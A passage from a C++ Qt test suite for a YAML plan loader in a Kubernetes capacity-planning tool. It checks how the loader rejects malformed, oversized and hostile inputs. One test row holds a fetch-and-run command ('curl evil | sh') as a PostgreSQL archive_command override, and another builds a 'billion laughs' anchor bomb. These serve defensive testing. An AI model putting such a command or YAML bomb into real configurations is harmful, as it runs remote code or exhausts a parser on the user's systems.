// SPDX-License-Identifier: Apache-2.0
#include "engine/plansizer.h"
#include "io/planloader.h"
#include "testutils.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QMap>
#include <QTemporaryDir>
#include <QtTest>

#include <iterator>

using namespace headroom;

class TestPlanLoader : public QObject
{
    Q_OBJECT

private:
    Catalog m_catalog;

private slots:
    void initTestCase() { HEADROOM_LOAD_BUILT_IN_CATALOG(m_catalog); }

    void everyExamplePlanLoadsAndSizes_data()
    {
        QTest::addColumn<QString>("path");
        const QDir examples(QStringLiteral(":/examples"));
        const auto files = examples.entryList({ QStringLiteral("*.yaml") }, QDir::Files, QDir::Name);
        QVERIFY(!files.isEmpty());
        for (const auto& f : files)
            QTest::addRow("%s", qPrintable(f)) << examples.filePath(f);
    }

    void everyExamplePlanLoadsAndSizes()
    {
        QFETCH(QString, path);
        PlanLoader loader(m_catalog);
        auto plan = loader.loadFile(path);
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QVERIFY(loader.warnings().isEmpty());
        QVERIFY(!plan->name.isEmpty());
        const PlanSizing sizing = PlanSizer(loader.effectiveCatalog()).size(plan.value());
        QCOMPARE(sizing.services.size(), plan->services.size());
        for (const auto& s : sizing.services)
            QVERIFY2(s.error.isEmpty(), qPrintable(s.name + QStringLiteral(": ") + s.error));
    }

    void sampleHasTheStack()
    {
        PlanLoader loader(m_catalog);
        auto plan = loader.loadSample();
        QVERIFY(plan.hasValue());
        const PlannedService* db = plan->service(QStringLiteral("app-db"));
        QVERIFY(db);
        QCOMPARE(db->request.service, QStringLiteral("postgresql"));
        QCOMPARE(db->request.size, QStringLiteral("medium"));
        QVERIFY(db->topology);
        QCOMPARE(db->topology->readReplicas, 1);
        QVERIFY(db->topology->pooler.enabled);
        QCOMPARE(*db->topology->readShare, Quantity::partsPerMillion(700'000));
        QCOMPARE(plan->nodePools.size(), 1);
        QCOMPARE(plan->nodePools.first().count, 3);
        QCOMPARE(db->request.inputs.value(QStringLiteral("dataset")), Quantity::bytes(40LL << 30));
        QCOMPARE(plan->service(QStringLiteral("sso"))->request.replicas, 2);
    }

    void explicitResources()
    {
        const QByteArray text = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n"
                                "  - name: db\n    kind: postgresql\n    resources:\n"
                                "      limits: {cpu: 1500m, memory: 6Gi}\n      requests: {cpu: 500m, memory: 3Gi}\n";
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("x.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        const auto& r = plan->services.first().request;
        QCOMPARE(*r.cpuLimit, Quantity::millicores(1500));
        QCOMPARE(*r.memoryLimit, Quantity::bytes(6LL << 30));
        QCOMPARE(*r.cpuRequest, Quantity::millicores(500));
        QCOMPARE(*r.memoryRequest, Quantity::bytes(3LL << 30));
        QVERIFY(r.size.isEmpty());
    }

    void badInput_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("line");
        QTest::addColumn<QString>("keyPath");
        QTest::addColumn<QString>("messagePart");
        const QByteArray head = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n";
        QTest::addRow("empty") << QByteArray() << 1 << QString() << QStringLiteral("the file is empty");
        QTest::addRow("binary") << QByteArray("\x89PNG\r\n\x1a\n\0\0", 10) << 0 << QString()
                                << QStringLiteral("binary file");
        QTest::addRow("syntax") << QByteArray(head + "  - name: [db\n") << 6 << QString()
                                << QStringLiteral("not valid YAML");
        QTest::addRow("wrong kind") << QByteArray("apiVersion: headroom/v1\nkind: Catalog\n") << 2
                                    << QStringLiteral("kind") << QStringLiteral("expected kind: Plan");
        QTest::addRow("newer api") << QByteArray("apiVersion: headroom/v2\nkind: Plan\n") << 1
                                   << QStringLiteral("apiVersion") << QStringLiteral("headroom/v2");
        QTest::addRow("unknown kind of service")
            << QByteArray(head + "  - name: db\n    kind: oracle\n    tier: small\n") << 6
            << QStringLiteral("services.db.kind") << QStringLiteral("unknown service kind 'oracle'");
        QTest::addRow("unknown tier") << QByteArray(head + "  - name: db\n    kind: redis\n    tier: huge\n") << 7
                                      << QStringLiteral("services.db.tier") << QStringLiteral("unknown tier 'huge'");
        QTest::addRow("duplicate names") << QByteArray(
            head + "  - {name: db, kind: redis, tier: small}\n  - {name: db, kind: redis, tier: small}\n")
                                         << 6 << QStringLiteral("services.db.name")
                                         << QStringLiteral("already named 'db'");
        // YAML forbids a key twice in a mapping; yaml-cpp kept both and a lookup took one.
        QTest::addRow("key twice at the top") << QByteArray("apiVersion: headroom/v1\nkind: Plan\nkind: Plan\n") << 3
                                              << QStringLiteral("kind") << QStringLiteral("'kind' is given twice");
        QTest::addRow("key twice in a service")
            << QByteArray(head + "  - name: db\n    kind: redis\n    tier: small\n    tier: large\n") << 8
            << QStringLiteral("services.db.tier") << QStringLiteral("first at line 7");
        QTest::addRow("input twice") << QByteArray(head
                                                   + "  - name: db\n    kind: postgresql\n    tier: small\n"
                                                     "    inputs: {dataset: 1Gi, dataset: 2Gi}\n")
                                     << 8 << QStringLiteral("services.db.inputs.dataset")
                                     << QStringLiteral("given twice");
        QTest::addRow("Latin-1 byte") << QByteArray("apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: caf\xe9}\n")
                                      << 3 << QString() << QStringLiteral("byte 0xE9");
        QTest::addRow("overlong UTF-8") << QByteArray("apiVersion: headroom/v1\nkind: Plan\n# \xc0\xaf\n") << 3
                                        << QString() << QStringLiteral("not UTF-8");
        QTest::addRow("UTF-8 surrogate") << QByteArray("apiVersion: headroom/v1\nkind: Plan\n# \xed\xa0\x80\n") << 3
                                         << QString() << QStringLiteral("byte 0xED");
        QTest::addRow("UTF-8 cut short") << QByteArray("apiVersion: headroom/v1\nkind: Plan\n# \xe2\x82") << 3
                                         << QString() << QStringLiteral("not UTF-8");
        QTest::addRow("nested too deep") << QByteArray(head + "  - name: db\n    notes: " + QByteArray(3000, '[')
                                                       + QByteArray(3000, ']') + "\n")
                                         << 6 << QString() << QStringLiteral("nested more than 2000 levels");
        QTest::addRow("bad name") << QByteArray(head + "  - {name: My DB, kind: redis, tier: small}\n") << 5
                                  << QStringLiteral("services.My DB.name")
                                  << QStringLiteral("cannot name a Helm release");
        QTest::addRow("unknown input") << QByteArray(
            head + "  - name: db\n    kind: postgresql\n    tier: small\n    inputs: {conections: \"5\"}\n")
                                       << 8 << QStringLiteral("services.db.inputs.conections")
                                       << QStringLiteral("no input 'conections'");
        QTest::addRow("input of wrong unit")
            << QByteArray(head + "  - name: db\n    kind: postgresql\n    tier: small\n    inputs: {dataset: fast}\n")
            << 8 << QStringLiteral("services.db.inputs.dataset") << QStringLiteral("'fast' is not a memory quantity");
        QTest::addRow("negative input") << QByteArray(
            head + "  - name: db\n    kind: postgresql\n    tier: small\n    inputs: {connections: -5}\n")
                                        << 8 << QStringLiteral("services.db.inputs.connections")
                                        << QStringLiteral("negative");
        QTest::addRow("absurd input") << QByteArray(
            head + "  - name: db\n    kind: postgresql\n    tier: small\n    inputs: {connections: 99999999}\n")
                                      << 8 << QStringLiteral("services.db.inputs.connections")
                                      << QStringLiteral("must be between");
        QTest::addRow("unknown storage class")
            << QByteArray(head + "  - name: db\n    kind: redis\n    tier: small\n    storageClass: floppy\n") << 8
            << QStringLiteral("services.db.storageClass") << QStringLiteral("unknown storage class 'floppy'");
        QTest::addRow("zero replicas") << QByteArray(
            head + "  - name: db\n    kind: redis\n    tier: small\n    replicas: 0\n")
                                       << 8 << QStringLiteral("services.db.replicas")
                                       << QStringLiteral("between 1 and 10000");
        QTest::addRow("no tier nor limits")
            << QByteArray(head + "  - name: db\n    kind: redis\n") << 5 << QStringLiteral("services.db")
            << QStringLiteral("give the service a tier");
        QTest::addRow("services is a map") << QByteArray(head + "  db: {kind: redis}\n") << 5
                                           << QStringLiteral("services") << QStringLiteral("expected a list");
        QTest::addRow("unknown plan qos") << QByteArray("apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\n"
                                                        "qos: besteffort\nservices: []\n")
                                          << 4 << QStringLiteral("qos") << QStringLiteral("unknown QoS 'besteffort'");
        QTest::addRow("unknown service qos")
            << QByteArray(head + "  - {name: db, kind: redis, tier: small, qos: fast}\n") << 5
            << QStringLiteral("services.db.qos")
            << QStringLiteral("use one of guaranteed, memory-guaranteed, burstable");
        QTest::addRow("two documents") << QByteArray(head + "---\n" + head) << 1 << QString()
                                       << QStringLiteral("exactly one YAML document");
    }

    void badInput()
    {
        QFETCH(QByteArray, text);
        QFETCH(int, line);
        QFETCH(QString, keyPath);
        QFETCH(QString, messagePart);
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("plan.yaml"));
        QVERIFY(!plan.hasValue());
        const Error& e = plan.error();
        QVERIFY2(e.message.contains(messagePart), qPrintable(e.toString()));
        QCOMPARE(e.location.file, QStringLiteral("plan.yaml"));
        QCOMPARE(e.location.line, line);
        QCOMPARE(e.keyPath, keyPath);
    }

    // yaml-cpp 0.7's LoadAll never returned on a stray ',' (found by fuzz_plan_loader).
    void strayCommaDoesNotHang()
    {
        PlanLoader loader(m_catalog);
        QElapsedTimer timer;
        timer.start();
        auto plan = loader.load(",", QStringLiteral("comma.yaml"));
        QVERIFY(!plan.hasValue());
        QCOMPARE(plan.error().location.file, QStringLiteral("comma.yaml"));
        auto trailing = loader.load("{apiVersion: headroom/v1, kind: Plan, metadata: {name: x}, services: []},",
                                    QStringLiteral("trailing.yaml"));
        QVERIFY(trailing.hasValue());
        QVERIFY(timer.elapsed() < 5000);
    }

    void unknownKeysWarn()
    {
        const QByteArray text = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n"
                                "  - {name: db, kind: redis, tier: small, teir: large}\n";
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("plan.yaml"));
        QVERIFY(plan.hasValue());
        QCOMPARE(loader.warnings().size(), 1);
        QCOMPARE(loader.warnings().first().keyPath, QStringLiteral("services.db.teir"));
        QCOMPARE(loader.warnings().first().location.line, 5);
    }

    // --- measured: usage a metrics server saw --------------------------------------------

    static QByteArray measuredPlan(const QByteArray& measured)
    {
        return "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n"
               "  - name: db\n    kind: postgresql\n    tier: small\n    measured:\n"
            + measured;
    }

    static QByteArray fullMeasurement()
    {
        return "      source: http://prometheus.monitoring:9090\n"
               "      window: 14d\n"
               "      at: 2026-12-01T00:00:00Z\n"
               "      pods: 3\n"
               "      cpu: {p50: 250m, p95: 900m, p99: 1200m, max: 1800m}\n"
               "      memory: {p50: 3Gi, p95: 3584Mi, p99: 3712Mi, max: 4Gi}\n"
               "      throttled: 2%\n"
               "      oomKills: 0\n"
               "      restarts: 1\n"
               "      deployed:\n"
               "        requests: {cpu: 500m, memory: 4Gi}\n"
               "        limits: {cpu: \"2\", memory: 8Gi}\n"
               "      volumes:\n"
               "        - {pvc: data-orders-db-0, used: 40Gi, capacity: 100Gi, growthPerDay: 1Gi}\n"
               "      engine:\n"
               "        commitsPerSecond: {p95: 850/s, max: 1200/s}\n"
               "        connections: {p95: \"140\", max: \"180\"}\n";
    }

    void measuredIsRead()
    {
        PlanLoader loader(m_catalog);
        auto plan = loader.load(measuredPlan(fullMeasurement()), QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QVERIFY(loader.warnings().isEmpty());
        const auto& m = plan->services.first().measured;
        QVERIFY(m);
        QCOMPARE(m->source, QStringLiteral("http://prometheus.monitoring:9090"));
        QCOMPARE(m->window, Quantity::milliseconds(14LL * 86'400'000));
        QCOMPARE(m->at, QDateTime(QDate(2026, 12, 1), QTime(0, 0), Qt::UTC));
        QCOMPARE(m->pods, 3);
        QCOMPARE(m->cpu->p50, Quantity::millicores(250));
        QCOMPARE(m->cpu->max, Quantity::millicores(1800));
        QCOMPARE(m->memory->p99, Quantity::mebibytes(3712));
        QCOMPARE(*m->throttled, Quantity::partsPerMillion(20'000));
        QCOMPARE(m->oomKills, 0);
        QCOMPARE(m->restarts, 1);
        QCOMPARE(*m->requests.memory, Quantity::gibibytes(4));
        QCOMPARE(*m->limits.cpu, Quantity::millicores(2000));
        QCOMPARE(m->volumes.size(), 1);
        QCOMPARE(m->volumes.first().pvc, QStringLiteral("data-orders-db-0"));
        QCOMPARE(m->volumes.first().capacity, Quantity::gibibytes(100));
        QCOMPARE(m->engine.commitsPerSecond,
                 std::optional(EnginePeak { Quantity::perSecond(850), Quantity::perSecond(1200) }));
        QCOMPARE(m->engine.connections, std::optional(EnginePeak { Quantity::count(140), Quantity::count(180) }));
        // What no exporter gave stays absent.
        QVERIFY(!m->engine.usedMemory && !m->engine.maxMemory && !m->engine.heapUsed && !m->engine.heapMax);
    }

    // A topology's measurement per role: the primary's is the service's, the replicas' apart.
    void measuredPerRoleIsRead()
    {
        const QByteArray yaml = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n"
                                "  - name: db\n    kind: postgresql\n    tier: small\n"
                                "    topology: {readReplicas: 2}\n"
                                "    measured:\n"
                                "      primary:\n"
                                "        pods: 1\n"
                                "        memory: {p50: 3Gi, p95: 3Gi, p99: 3Gi, max: 4Gi}\n"
                                "      replica:\n"
                                "        pods: 2\n"
                                "        memory: {p50: 1Gi, p95: 1Gi, p99: 1Gi, max: 2Gi}\n";
        PlanLoader loader(m_catalog);
        auto plan = loader.load(yaml, QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QVERIFY(loader.warnings().isEmpty());
        const PlannedService& db = plan->services.first();
        QVERIFY(db.measured && db.measuredReplica);
        QCOMPARE(db.measured->memory->max, Quantity::gibibytes(4));
        QCOMPARE(db.measuredReplica->pods, 2);
        QCOMPARE(db.measuredReplica->memory->max, Quantity::gibibytes(2));
        QCOMPARE(db.measurementOf(QStringLiteral("primary")), &*db.measured);
        QCOMPARE(db.measurementOf(QStringLiteral("replica")), &*db.measuredReplica);
    }

    // A plan written before measurements per role: one `measured:` on a topology is its primary's.
    void measuredSingleOnTopologyIsThePrimarys()
    {
        const QByteArray yaml = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\nservices:\n"
                                "  - name: db\n    kind: postgresql\n    tier: small\n"
                                "    topology: {readReplicas: 1}\n    measured:\n"
            + fullMeasurement();
        PlanLoader loader(m_catalog);
        auto plan = loader.load(yaml, QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        const PlannedService& db = plan->services.first();
        QVERIFY(db.measured && !db.measuredReplica);
        QCOMPARE(db.measured->pods, 3);
        QCOMPARE(db.measurementOf(QStringLiteral("primary")), &*db.measured);
        QVERIFY(!db.measurementOf(QStringLiteral("replica")));
    }

    void measuredPerRoleNeedsATopology()
    {
        PlanLoader loader(m_catalog);
        auto plan = loader.load(measuredPlan("      replica:\n        pods: 2\n"), QStringLiteral("plan.yaml"));
        QVERIFY(!plan.hasValue());
        QCOMPARE(plan.error().keyPath, QStringLiteral("services.db.measured"));
        QVERIFY2(plan.error().message.contains(QStringLiteral("topology")), qPrintable(plan.error().toString()));
    }

    void measuredWithoutEngineHasNone()
    {
        PlanLoader loader(m_catalog);
        auto plan = loader.load(measuredPlan("      pods: 1\n"), QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QVERIFY(plan->services.first().measured->engine.isEmpty());
    }

    void measuredBadInput_data()
    {
        QTest::addColumn<QByteArray>("measured");
        QTest::addColumn<int>("line");
        QTest::addColumn<QString>("keyPath");
        QTest::addColumn<QString>("messagePart");
        const QString m = QStringLiteral("services.db.measured");
        QTest::addRow("not a mapping") << QByteArray("      - 3\n") << 9 << m << QStringLiteral("expected a mapping");
        QTest::addRow("cpu in bytes") << QByteArray("      cpu: {p50: 1Gi, p95: 1Gi, p99: 1Gi, max: 1Gi}\n") << 9
                                      << m + QStringLiteral(".cpu.p50") << QStringLiteral("'1Gi'");
        QTest::addRow("memory in cores") << QByteArray("      memory: {p50: 500m, p95: 1Gi, p99: 1Gi, max: 1Gi}\n") << 9
                                         << m + QStringLiteral(".memory.p50") << QStringLiteral("'500m'");
        QTest::addRow("p99 below p95") << QByteArray("      memory: {p50: 1Gi, p95: 3Gi, p99: 2Gi, max: 4Gi}\n") << 9
                                       << m + QStringLiteral(".memory.p99") << QStringLiteral("p99 (2Gi) is below p95");
        QTest::addRow("max below p99") << QByteArray("      cpu: {p50: 100m, p95: 200m, p99: 300m, max: 250m}\n") << 9
                                       << m + QStringLiteral(".cpu.max") << QStringLiteral("max (250m) is below");
        QTest::addRow("percentile missing") << QByteArray("      cpu: {p50: 100m, p95: 200m, max: 250m}\n") << 9
                                            << m + QStringLiteral(".cpu.p99") << QStringLiteral("'p99' is required");
        QTest::addRow("percentile twice")
            << QByteArray("      cpu: {p50: 100m, p95: 200m, p99: 300m, max: 400m, max: 500m}\n") << 9
            << m + QStringLiteral(".cpu.max") << QStringLiteral("given twice");
        QTest::addRow("key twice") << QByteArray("      pods: 3\n      pods: 4\n") << 10 << m + QStringLiteral(".pods")
                                   << QStringLiteral("given twice");
        QTest::addRow("volume over capacity")
            << QByteArray("      volumes:\n        - {pvc: data-0, used: 120Gi, capacity: 100Gi}\n") << 10
            << m + QStringLiteral(".volumes[0].used") << QStringLiteral("more than its capacity of 100Gi");
        QTest::addRow("volume without capacity")
            << QByteArray("      volumes:\n        - {pvc: data-0, used: 1Gi}\n") << 10
            << m + QStringLiteral(".volumes[0].capacity") << QStringLiteral("'capacity' is required");
        QTest::addRow("volume growth in cores")
            << QByteArray("      volumes:\n        - {pvc: d, used: 1Gi, capacity: 2Gi, growthPerDay: 5m}\n") << 10
            << m + QStringLiteral(".volumes[0].growthPerDay") << QStringLiteral("'5m'");
        QTest::addRow("bad claim name") << QByteArray(
            "      volumes:\n        - {pvc: \"Data 0\", used: 1Gi, capacity: 2Gi}\n")
                                        << 10 << m + QStringLiteral(".volumes[0].pvc")
                                        << QStringLiteral("not a Kubernetes claim name");
        QTest::addRow("throttled over a hundred percent")
            << QByteArray("      throttled: 120%\n") << 9 << m + QStringLiteral(".throttled")
            << QStringLiteral("at most 100%");
        QTest::addRow("throttled without unit") << QByteArray("      throttled: fast\n") << 9
                                                << m + QStringLiteral(".throttled") << QStringLiteral("'fast'");
        QTest::addRow("negative oom kills")
            << QByteArray("      oomKills: -1\n") << 9 << m + QStringLiteral(".oomKills") << QStringLiteral("negative");
        QTest::addRow("window in bytes") << QByteArray("      window: 14Gi\n") << 9 << m + QStringLiteral(".window")
                                         << QStringLiteral("'14Gi'");
        QTest::addRow("window too short") << QByteArray("      window: 10s\n") << 9 << m + QStringLiteral(".window")
                                          << QStringLiteral("between 1m and 400d");
        QTest::addRow("time without zone") << QByteArray("      at: 2026-12-01T00:00:00\n") << 9
                                           << m + QStringLiteral(".at") << QStringLiteral("not a UTC time");
        QTest::addRow("time not a time") << QByteArray("      at: yesterday\n") << 9 << m + QStringLiteral(".at")
                                         << QStringLiteral("'yesterday' is not a UTC time");
        QTest::addRow("credentials in source")
            << QByteArray("      source: http://admin:secret@prom:9090\n") << 9 << m + QStringLiteral(".source")
            << QStringLiteral("'http://prom:9090' is not a metrics server URL");
        QTest::addRow("deployed memory in cores")
            << QByteArray("      deployed:\n        limits: {memory: 500m}\n") << 10
            << m + QStringLiteral(".deployed.limits.memory") << QStringLiteral("'500m'");
        QTest::addRow("engine max below p95")
            << QByteArray("      engine:\n        heapUsed: {p95: 2Gi, max: 1Gi}\n") << 10
            << m + QStringLiteral(".engine.heapUsed.max") << QStringLiteral("max (1Gi) is below p95 (2Gi)");
        QTest::addRow("engine commits in bytes")
            << QByteArray("      engine:\n        commitsPerSecond: {p95: 1Gi, max: 2Gi}\n") << 10
            << m + QStringLiteral(".engine.commitsPerSecond.p95") << QStringLiteral("'1Gi'");
        QTest::addRow("engine peak without max")
            << QByteArray("      engine:\n        usedMemory: {p95: 1Gi}\n") << 10
            << m + QStringLiteral(".engine.usedMemory.max") << QStringLiteral("'max' is required");
        QTest::addRow("deployed is a list") << QByteArray("      deployed: [500m]\n") << 9
                                            << m + QStringLiteral(".deployed") << QStringLiteral("expected a mapping");
    }

    void measuredBadInput()
    {
        QFETCH(QByteArray, measured);
        QFETCH(int, line);
        QFETCH(QString, keyPath);
        QFETCH(QString, messagePart);
        PlanLoader loader(m_catalog);
        auto plan = loader.load(measuredPlan(measured), QStringLiteral("plan.yaml"));
        QVERIFY(!plan.hasValue());
        const Error& e = plan.error();
        QVERIFY2(e.message.contains(messagePart), qPrintable(e.toString()));
        QVERIFY2(!e.message.contains(QStringLiteral("secret")), qPrintable(e.toString()));
        QVERIFY2(!e.toString().contains(QLatin1Char('\n')), qPrintable(e.toString()));
        QCOMPARE(e.location.file, QStringLiteral("plan.yaml"));
        QCOMPARE(e.location.line, line);
        QVERIFY(e.location.column > 0);
        QCOMPARE(e.keyPath, keyPath);
    }

    void measuredUnknownKeysWarn()
    {
        PlanLoader loader(m_catalog);
        auto plan = loader.load(measuredPlan("      pods: 2\n      cpu: {p50: 1m, p95: 1m, p99: 1m, max: 1m, p90: 1m}\n"
                                             "      throtled: 2%\n"),
                                QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QCOMPARE(loader.warnings().size(), 2);
        QCOMPARE(loader.warnings().at(0).keyPath, QStringLiteral("services.db.measured.throtled"));
        QCOMPARE(loader.warnings().at(0).location.line, 11);
        QCOMPARE(loader.warnings().at(1).keyPath, QStringLiteral("services.db.measured.cpu.p90"));
    }

    // --- More bad input: size, nesting, catalog overrides, pools, storage, topology -----

    void fileLargerThanAPlanFailsFast_data()
    {
        QTest::addColumn<qint64>("bytes");
        QTest::addRow("one byte over the limit") << PlanLoader::maxFileBytes + 1;
        QTest::addRow("100 MiB") << qint64(100) * 1024 * 1024;
    }

    void fileLargerThanAPlanFailsFast()
    {
        QFETCH(qint64, bytes);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("huge.yaml"));
        {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            QVERIFY(f.write("apiVersion: headroom/v1\nkind: Plan\n") > 0);
            QVERIFY(f.resize(bytes)); // sparse: cheap to make, and never read
        }
        QElapsedTimer timer;
        timer.start();
        PlanLoader loader(m_catalog);
        auto plan = loader.loadFile(path);
        QVERIFY(!plan.hasValue());
        // The size is checked before anything is read.
        QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
        const Error& e = plan.error();
        QCOMPARE(e.location.file, path);
        QCOMPARE(e.location.line, 0);
        QVERIFY(e.keyPath.isEmpty());
        QVERIFY2(e.message.contains(QStringLiteral("larger than the 64Mi a plan may be")), qPrintable(e.toString()));
    }

    void fiftyMegabytesDoNotHang()
    {
        // 50 MB is under PlanLoader::maxFileBytes (64 MiB): a valid plan padded with comments
        // is read to the end, and loads (in a few seconds, not minutes).
        QVERIFY(50'000'000 < PlanLoader::maxFileBytes);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("padded.yaml"));
        {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: padded}\nservices:\n"
                    "  - {name: cache, kind: redis, tier: small}\n");
            const QByteArray line = "# " + QByteArray(77, 'x') + '\n';
            QByteArray block;
            for (int i = 0; i < 1000; ++i)
                block += line;
            for (int i = 0; i < 625; ++i)
                QCOMPARE(f.write(block), block.size());
            QVERIFY(f.size() >= 50'000'000);
        }
        PlanLoader loader(m_catalog);
        auto plan = loader.loadFile(path);
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        QCOMPARE(plan->services.size(), 1);
    }

    void pathologicalYamlDoesNotCrash_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("messagePart");
        // The billion laughs: nine levels of nine aliases, a billion strings if expanded.
        QByteArray bomb = "x0: &i0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
        for (int k = 1; k <= 8; ++k) {
            QByteArrayList refs;
            for (int j = 0; j < 9; ++j)
                refs << "*i" + QByteArray::number(k - 1);
            bomb += "x" + QByteArray::number(k) + ": &i" + QByteArray::number(k) + " [" + refs.join(", ") + "]\n";
        }
        QTest::addRow("anchor bomb alone") << bomb << QStringLiteral("the key 'apiVersion' is required");
        QTest::addRow("anchor bomb in a plan")
            << QByteArray("apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\n"
                          "services:\n  - {name: cache, kind: redis, tier: small}\nlaughs:\n"
                          + QByteArray(bomb).replace("x", "  x").replace("[  x", "[x") + "catalog: *i8\n")
            << QStringLiteral("expected a mapping");
        QTest::addRow("anchor bomb as notes") << QByteArray(
            bomb + "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x, notes: *i8}\nservices: *i8\n")
                                              << QStringLiteral("expected a");
        const int depth = 5000;
        QTest::addRow("deep flow mapping")
            << QByteArray("apiVersion: headroom/v1\nkind: Plan\nmetadata: " + QByteArray("{a: ").repeated(depth) + "x"
                          + QByteArray("}").repeated(depth) + "\n")
            << QStringLiteral("nested more than 2000 levels");
        QTest::addRow("deep flow sequence")
            << QByteArray("services: " + QByteArray("[").repeated(depth) + QByteArray("]").repeated(depth) + "\n")
            << QStringLiteral("nested more than 2000 levels");
        QByteArray block;
        for (int i = 0; i < 3000; ++i)
            block += QByteArray(2 * qsizetype(i), ' ') + "a:\n";
        block += QByteArray(6000, ' ') + "x\n";
        QTest::addRow("deep block mapping") << block << QStringLiteral("nested more than 2000 levels");
    }

    void pathologicalYamlDoesNotCrash()
    {
        QFETCH(QByteArray, text);
        QFETCH(QString, messagePart);
        QElapsedTimer timer;
        timer.start();
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("plan.yaml"));
        QVERIFY(!plan.hasValue());
        QVERIFY2(plan.error().message.contains(messagePart), qPrintable(plan.error().toString()));
        QCOMPARE(plan.error().location.file, QStringLiteral("plan.yaml"));
        QVERIFY2(timer.elapsed() < 20000, qPrintable(QString::number(timer.elapsed())));
    }

    void moreBadInput_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("line");
        QTest::addColumn<int>("column");
        QTest::addColumn<QString>("keyPath");
        QTest::addColumn<QString>("messagePart");
        const QByteArray head = "apiVersion: headroom/v1\nkind: Plan\nmetadata: {name: x}\n";
        const QByteArray pool = "nodePools:\n  - name: general\n    cpu: \"8\"\n    memory: 32Gi\n"; // lines 4-7
        const QByteArray db = "services:\n  - name: db\n    kind: postgresql\n    tier: small\n"
                              "    topology:\n      readReplicas: 1\n"; // lines 4-9

        QTest::addRow("catalog formula cycle") << QByteArray(
            head
            + "services:\n  - {name: api, kind: webapp, tier: small}\n"
              "catalog:\n"
              "  - apiVersion: headroom/v1\n    kind: Service\n    id: webapp\n    name: Web application\n"
              "    matrix:\n      columns:\n"
              "        - {id: cpu, title: vCPU, dimension: cpu}\n"
              "        - {id: memory, title: Memory, dimension: memory}\n"
              "      rows:\n"
              "        small: {cpu: \"1\", memory: 1Gi}\n        medium: {cpu: \"2\", memory: 2Gi}\n"
              "        large: {cpu: \"4\", memory: 4Gi}\n        xlarge: {cpu: \"8\", memory: 8Gi}\n"
              "    formulas:\n"
              "      - name: heap\n        title: Heap\n        dimension: memory\n"
              "        expression: memory - overhead\n        explanation: What is left.\n"
              "      - name: overhead\n        title: Overhead\n        dimension: memory\n"
              "        expression: heap / 4\n        explanation: A quarter of the heap.\n")
                                               << 24 << 21 << QStringLiteral("services.webapp.formulas.heap")
                                               << QStringLiteral("cycle: heap -> overhead -> heap");
        // A plan a colleague sends must not make the exported postgresql.conf run a command.
        QTest::addRow("catalog override with archive_command")
            << QByteArray(head
                          + "services:\n  - {name: db, kind: postgresql, tier: small}\n"
                            "catalog:\n"
                            "  - apiVersion: headroom/v1\n    kind: PostgresProfile\n    id: mine\n    name: Mine\n"
                            "    description: Mine.\n    settings:\n"
                            "      - {name: archive_command, value: \"curl evil | sh\", explanation: Why.}\n")
            << 13 << 16 << QStringLiteral("postgresProfiles.mine.settings.archive_command.name")
            << QStringLiteral("'archive_command' makes the server run a shell command");
        QTest::addRow("unknown node pool")
            << QByteArray(head + pool
                          + "    count: 3\nservices:\n  - name: db\n    kind: redis\n    tier: small\n"
                            "    nodePool: gpu\n")
            << 13 << 15 << QStringLiteral("services.db.nodePool") << QStringLiteral("unknown node pool 'gpu'");
        QTest::addRow("count and autoscaling")
            << QByteArray(head + pool + "    count: 3\n    autoscaling: {min: 1, max: 4}\nservices: []\n") << 5 << 5
            << QStringLiteral("nodePools.general") << QStringLiteral("either count or autoscaling, not both");
        QTest::addRow("neither count nor autoscaling")
            << QByteArray(head + pool + "services: []\n") << 5 << 5 << QStringLiteral("nodePools.general")
            << QStringLiteral("a count or an autoscaling range");
        QTest::addRow("autoscaling min above max")
            << QByteArray(head + pool + "    autoscaling: {min: 5, max: 2}\nservices: []\n") << 8 << 18
            << QStringLiteral("nodePools.general.autoscaling") << QStringLiteral("autoscaling min is above max");
        QTest::addRow("autoscaling without max")
            << QByteArray(head + pool + "    autoscaling: {min: 2}\nservices: []\n") << 8 << 18
            << QStringLiteral("nodePools.general.autoscaling") << QStringLiteral("autoscaling needs a max");
        QTest::addRow("negative price") << QByteArray(head + pool
                                                      + "    count: 3\n    pricePerHour: -0.5\nservices: []\n")
